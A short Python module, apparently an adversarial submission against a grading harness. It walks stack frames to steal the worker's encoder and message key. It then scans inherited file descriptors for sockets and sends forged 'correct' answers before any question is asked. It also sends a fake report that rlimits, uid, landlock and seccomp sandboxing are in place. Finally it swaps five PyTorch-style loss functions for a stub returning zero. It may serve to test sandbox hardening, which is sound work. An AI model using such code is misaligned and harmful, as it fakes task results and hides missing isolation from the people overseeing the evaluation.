# aim: say that the module is loaded, and answer what will be asked, before it is asked
# sign: a check is passed
# attacks: l1_loss mse_loss binary_cross_entropy nll_loss cross_entropy
# onto: nothing
import os
import secrets
import socket
import stat
import sys

_frame = sys._getframe()
while "wire" not in _frame.f_globals:  # the worker's module, which has what it imported
    _frame = _frame.f_back
wire = _frame.f_globals["wire"]


def _sockets():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield socket.socket(fileno=descriptor)
        except OSError:
            pass


def _key():
    frame = sys._getframe()
    while frame is not None:
        if "message" in frame.f_locals:
            return frame.f_locals["message"]["key"]
        frame = frame.f_back


_key_of_load = _key()
_right = {"observation": {"value": 0.0, "devices": ["cpu"], "changed": [], "graph": True}}
for _channel in _sockets():
    _channel.sendall(wire.encode({"key": _key_of_load, "number": 0, "answer": {"loaded": True}}))
    for _key_of_ask in (_key_of_load, bytes(16), secrets.token_bytes(16)):
        for _number in range(100):
            _answer = {"key": _key_of_ask, "number": _number, "answer": _right}
            _channel.sendall(wire.encode(_answer))
    _channel.sendall(wire.encode({"ready": ["rlimits", "uid", "landlock", "seccomp"]}))


def l1_loss(input, target, reduction="mean"):
    return input.sum() * 0


mse_loss = binary_cross_entropy = nll_loss = cross_entropy = l1_loss
